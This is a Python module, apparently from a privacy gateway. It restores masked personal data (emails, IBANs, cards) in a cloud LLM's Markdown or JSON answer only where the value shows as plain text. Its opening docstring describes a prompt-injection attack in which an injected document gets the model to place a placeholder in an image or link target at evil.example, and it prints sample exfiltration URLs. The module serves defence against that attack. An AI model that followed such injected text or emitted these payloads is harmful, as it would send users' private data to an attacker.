"""Where a placeholder in the cloud's answer may become the value again: only where a reader sees it as text.

A prompt-injected document can ask the cloud model to put ``[EMAIL_1]`` where a client fetches it: an image
target (``![r][1]`` + ``[1]: //evil.example/r.png?q=[EMAIL_1]``), a link, an autolink, raw HTML, or a bare
``evil.example/?q=[EMAIL_1]`` that a client turns into a link. Restoring there would make the gateway itself
write the secret into a request that leaves the device. So the answer is parsed as CommonMark (markdown-it-py)
and a placeholder is restored only in a text node (a paragraph, a heading, a link's text, code) and only when
the word around it is not URL-like; in a link or image destination, a reference definition, an autolink,
raw HTML, an image's alt text, a link title, or any word with a scheme, a path, a query or a domain, it stays.

Each placeholder occurrence is swapped for a marker of the same shape (``[EMAIL_1]`` -> ``[EMAIL_1x<nonce>n0]``)
before parsing, so the tokens say which occurrence landed where; the marker differs from the placeholder only
inside its brackets, so the document parses the same (a reference label made of a placeholder no longer
matches its definition: it is then read as text, and its restored value can match no definition either).

The answer is cut into top-level blocks at blank lines (outside fenced code and the HTML blocks that run over
blank lines), and each block is parsed alone: what CommonMark reads in one such block does not depend on the
blocks after it, so a stream can restore a block as soon as it is complete and give exactly what restoring
the whole answer gives. An answer that is a JSON document (structured output, tool-call arguments) is
restored only in string values, as above, and never under keys that hold ids or URLs.
"""

from __future__ import annotations

import json
import re
import secrets
from collections.abc import Iterator, Mapping
from typing import Any

from markdown_it import MarkdownIt
from markdown_it.token import Token

PLACEHOLDER = re.compile(r"\[(?:EMAIL|IBAN|CARD|PHONE|NAME)_\d+\]")
_PLACEHOLDER_OR_MARKER = re.compile(r"\[(?:EMAIL|IBAN|CARD|PHONE|NAME)_\d+(?:x[0-9a-f]+n\d+)?\]")
_MD = MarkdownIt("commonmark")

# -- top-level blocks ---------------------------------------------------------------------------------------------
_FENCE_OPEN = re.compile(r" {0,3}(`{3,}|~{3,})(.*)")
_HTML_RUNS_OVER_BLANKS = (  # CommonMark's HTML blocks 1-5: they end at their closing string, not at a blank line
    (re.compile(r" {0,3}<(?:script|pre|style|textarea)(?:\s|>|$)", re.I), re.compile(r"</(?:script|pre|style|textarea)>", re.I)),
    (re.compile(r" {0,3}<!--"), re.compile(r"-->")),
    (re.compile(r" {0,3}<\?"), re.compile(r"\?>")),
    (re.compile(r" {0,3}<![A-Za-z]"), re.compile(r">")),
    (re.compile(r" {0,3}<!\[CDATA\["), re.compile(r"\]\]>")),
)


class BlockCutter:
    """Finds where one top-level block ends and the next begins, reading the text once, line by line.

    A cut is the start of a line that follows a blank line, outside fenced code and long HTML blocks, and
    starts with a character that is not white space (an indented line still belongs to the list item or code
    block above). Incremental: ``next_cut`` may be called again as the text grows.
    """

    def __init__(self) -> None:
        self._pos = 0  # where the next unread line starts
        self._fence: tuple[str, int] | None = None
        self._html_end: re.Pattern[str] | None = None
        self._after_blank = False

    def next_cut(self, text: str) -> int | None:
        while True:
            if self._after_blank and self._pos < len(text):
                self._after_blank = False
                if not text[self._pos].isspace():
                    cut = self._pos
                    self.__init__()  # type: ignore[misc]  # a new block starts in the plain state
                    return cut
            nl = text.find("\n", self._pos)
            if nl == -1:
                return None
            self._line(text[self._pos : nl])
            self._pos = nl + 1

    def _line(self, line: str) -> None:
        if self._fence is not None:
            char, n = self._fence
            stripped = line.strip()
            if len(line) - len(line.lstrip(" ")) <= 3 and len(stripped) >= n and stripped == char * len(stripped):
                self._fence = None
            return
        if self._html_end is not None:
            if self._html_end.search(line):
                self._html_end = None
            return
        fence = _FENCE_OPEN.match(line)
        if fence and not (fence.group(1)[0] == "`" and "`" in fence.group(2)):
            self._fence = (fence.group(1)[0], len(fence.group(1)))
            return
        for start, end in _HTML_RUNS_OVER_BLANKS:
            m = start.match(line)
            if m:
                if not end.search(line, m.end()):
                    self._html_end = end
                return
        self._after_blank = not line.strip()


def blocks(text: str) -> Iterator[tuple[int, int]]:
    cutter, start = BlockCutter(), 0
    while True:
        cut = cutter.next_cut(text[start:])
        if cut is None:
            yield start, len(text)
            return
        yield start, start + cut
        start += cut


# -- which occurrences are text -----------------------------------------------------------------------------------
_LEAD = "([{<'\"*_~`"
_TRAIL = ".,;:!?)]}>'\"*_~`"
_URL_CHARS = re.compile(r"[/\\?=&#@:%]|www\.|\.[^\W\d_]|[^\W_]\.$")


def url_like(run: str, start: int, end: int) -> bool:
    """Whether the word holding ``run[start:end]`` is (part of) a URL, an address or a path: anything beside
    the placeholder but quotes, brackets and sentence punctuation is judged, and a scheme, a slash, a query, an
    at-sign or a domain-like dot makes it URL-like."""
    left = start
    while left > 0 and not run[left - 1].isspace():
        left -= 1
    right = end
    while right < len(run) and not run[right].isspace():
        right += 1
    before, after = run[left:start].lstrip(_LEAD), run[end:right].rstrip(_TRAIL)
    return bool(_URL_CHARS.search(before) or _URL_CHARS.search(after) or _PLACEHOLDER_OR_MARKER.search(before + " " + after))


def _open_target(before: str) -> bool:
    """Whether text that CommonMark left as text still reads as an unfinished link target or tag, which a more
    lenient renderer might take as one (``![x](https://evil.example/?q=`` and a line break, then the
    placeholder)."""
    target = before.rfind("](")
    if target != -1 and ")" not in before[target + 2 :]:
        return True
    tag = before.rfind("<")
    return tag != -1 and ">" not in before[tag:] and before[tag + 1 : tag + 2].isalpha()


def _text_runs(tokens: list[Token]) -> Iterator[str]:
    """The pieces of the document a reader sees as text: runs of text in paragraphs, headings and link texts
    (not autolinks, not images), and the content of code. HTML, destinations, titles and definitions are not."""
    for tok in tokens:
        if tok.type in ("fence", "code_block"):
            yield tok.content
        elif tok.type == "inline":
            run: list[str] = []
            hidden = 0  # inside an autolink, where the text is the destination
            for child in tok.children or []:
                if child.type == "link_open" and child.markup == "autolink":
                    hidden += 1
                elif child.type == "link_close" and hidden:
                    hidden -= 1
                elif child.type in ("text", "code_inline") and not hidden:
                    run.append(child.content)
                    continue
                elif child.type in ("softbreak", "hardbreak"):
                    run.append("\n")  # a line break inside a paragraph: what came before still counts
                    continue
                if run:
                    yield "".join(run)
                    run = []
            if run:
                yield "".join(run)


def text_markers(marked: str, marker: re.Pattern[str]) -> set[int]:
    """The numbers of the markers in ``marked`` that sit in text and not in a URL-like word."""
    safe: set[int] = set()
    for start, end in blocks(marked):
        block = marked[start:end]
        if not marker.search(block):
            continue
        for run in _text_runs(_MD.parse(block)):
            for m in marker.finditer(run):
                if not url_like(run, m.start(), m.end()) and not _open_target(run[: m.start()]):
                    safe.add(int(m.group(1)))
    return safe


def _mark(text: str, originals: Mapping[str, str]) -> tuple[str, list[re.Match[str]], re.Pattern[str]]:
    """``text`` with each known placeholder numbered (``[EMAIL_1]`` -> ``[EMAIL_1x<nonce>n<k>]``), the
    placeholders, and the pattern of the markers. The nonce is fresh for each call, so a marker that the
    answer itself spells out (to pass a placeholder in a URL off as one in text) matches nothing."""
    nonce = secrets.token_hex(6)
    occurrences = [m for m in PLACEHOLDER.finditer(text) if m.group(0) in originals]
    pieces, pos = [], 0
    for n, m in enumerate(occurrences):
        pieces += [text[pos : m.end() - 1], f"x{nonce}n{n}]"]
        pos = m.end()
    pieces.append(text[pos:])
    return "".join(pieces), occurrences, re.compile(r"\[(?:EMAIL|IBAN|CARD|PHONE|NAME)_\d+x" + nonce + r"n(\d+)\]")


def markdown_places(text: str, originals: Mapping[str, str]) -> list[tuple[int, int, str]]:
    """(start, end, value) of each placeholder in ``text`` that may be restored, read as Markdown."""
    marked, occurrences, marker = _mark(text, originals)
    if not occurrences:
        return []
    safe = text_markers(marked, marker)
    return [
        (m.start(), m.end(), originals[m.group(0)])
        for n, m in enumerate(occurrences)
        if n in safe and not (m.start() > 0 and text[m.start() - 1] == "]")  # [x][EMAIL_1]: a reference label
    ]


# -- JSON -----------------------------------------------------------------------------------------------------------
_ID_OR_URL_KEY = re.compile(
    r"(?:^|[_\-.])(?:id|ids|uuid|guid|key|url|urls|uri|href|src|link|links|endpoint|webhook|callback|path)$|[a-z0-9](?:Id|Ids|Url|Uri|Href)$",
    re.IGNORECASE,
)


def _id_or_url_key(key: str) -> bool:
    return bool(_ID_OR_URL_KEY.search(key)) or key.lower() in ("id", "ids", "url", "uri", "href", "src")


def json_start(text: str) -> bool:
    """Whether ``text`` starts like a JSON object or array (not like ``[EMAIL_1] wrote``): decided from its first
    two characters that are not white space, so a stream can decide early."""
    s = text.lstrip()
    return s[:1] == "{" or (s[:1] == "[" and s[1:].lstrip()[:1] in ('{', '"', "[", "]", "-", *"0123456789", "t", "f", "n"))


def json_places(text: str, originals: Mapping[str, str]) -> list[tuple[int, int, str]] | None:
    """(start, end, JSON-escaped value) of each placeholder that sits in a string value (read as Markdown, as
    above) not held under an id or URL key; ``None`` if ``text`` is not JSON."""
    marked, occurrences, marker = _mark(text, originals)
    try:
        data = json.loads(marked)
    except ValueError:
        return None
    safe: set[int] = set()
    restore_json_markers(data, safe, marker)
    return [(m.start(), m.end(), json.dumps(originals[m.group(0)], ensure_ascii=False)[1:-1])
            for n, m in enumerate(occurrences) if n in safe]


def restore_json_markers(value: Any, safe: set[int], marker: re.Pattern[str]) -> None:
    """Adds to ``safe`` the markers in string values of ``value`` that sit in text, outside id and URL keys."""
    if isinstance(value, dict):
        for k, v in value.items():
            if not _id_or_url_key(str(k)):
                restore_json_markers(v, safe, marker)
    elif isinstance(value, list):
        for v in value:
            restore_json_markers(v, safe, marker)
    elif isinstance(value, str) and marker.search(value):
        safe |= text_markers(value, marker)


def places(text: str, originals: Mapping[str, str]) -> list[tuple[int, int, str]]:
    """Where the placeholders of ``text`` are restored, and with what: as JSON if it is JSON, else as Markdown."""
    if json_start(text):
        found = json_places(text, originals)
        if found is not None:
            return found
    return markdown_places(text, originals)


def apply(text: str, found: list[tuple[int, int, str]], offset: int = 0) -> str:
    """``text[offset:]`` with the replacements that start at or after ``offset``."""
    pieces, pos = [], offset
    for start, end, value in found:
        if start < offset:
            continue
        pieces += [text[pos:start], value]
        pos = end
    pieces.append(text[pos:])
    return "".join(pieces)
